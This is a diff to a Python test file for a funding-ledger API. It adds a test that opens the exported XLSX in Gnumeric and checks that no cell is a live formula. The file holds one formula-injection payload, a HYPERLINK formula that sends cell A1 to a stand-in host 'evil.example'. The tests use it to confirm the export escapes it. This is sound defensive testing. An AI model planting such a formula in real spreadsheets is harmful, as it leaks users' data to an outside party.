@@ -14,8 +14,13 @@ The programme, over fiscal years 2022 and 2023 (every grant 1,000,000.00):
 from __future__ import annotations
 
 import csv
+import gzip
 import io
+import shutil
+import subprocess
+import xml.etree.ElementTree as ET
 from decimal import Decimal
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -28,6 +33,7 @@ from projections.runner import max_position
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
 PATHS = ("/funding-ledger/by-year", "/funding-ledger/by-year.csv", "/funding-ledger/by-year.xlsx")
 M = Decimal
+GNM = {"gnm": "http://www.gnumeric.org/v10.dtd"}
 
 
 def _yuan(opening: str, commitments: str, releases: str, disbursements: str, recoveries: str,
@@ -182,3 +188,23 @@ def test_only_finance_the_bureau_and_auditors_read_the_ledger_by_year(api: Api, 
         assert r.status_code == 403, user
         assert r.headers["content-type"].startswith("application/problem+json")
     assert api.get(path, None).status_code == 401
+
+
+@pytest.mark.skipif(shutil.which("ssconvert") is None,
+                    reason="ssconvert (Debian package gnumeric) is not installed: no spreadsheet to open the XLSX with")
+def test_a_spreadsheet_opens_the_xlsx_with_numbers_and_no_formula(site: Api, tmp_path: Path) -> None:
+    src, dst = tmp_path / "ledger.xlsx", tmp_path / "ledger.gnumeric"
+    src.write_bytes(site.get("/funding-ledger/by-year.xlsx", "finance").content)
+    subprocess.run(["ssconvert", str(src), str(dst)], check=True, capture_output=True, timeout=60)
+    cells = ET.fromstring(gzip.decompress(dst.read_bytes())).findall(".//gnm:Cell", GNM)
+    # A formula cell has no ValueType; 60 is a string, 40 a number.
+    assert [c.text for c in cells if c.get("ValueType") is None] == []
+    by_place = {(int(c.get("Row")), int(c.get("Col"))): c for c in cells}
+    last = max(r for r, _ in by_place)
+    assert [by_place[(0, col)].text for col in range(len(HEADER))] == HEADER
+    assert by_place[(1, 3)].get("ValueType") == "60" and by_place[(1, 3)].text == "'" + HOSTILE
+    for row in range(1, last + 1):
+        for col in range(5, 11):
+            cell = by_place[(row, col)]
+            assert cell.get("ValueType") == "40", (row, col)  # a number (its 0.00 format: the test above)
+    assert by_place[(last, 0)].text == "合计" and M(by_place[(last, 10)].text) == M("1000000")
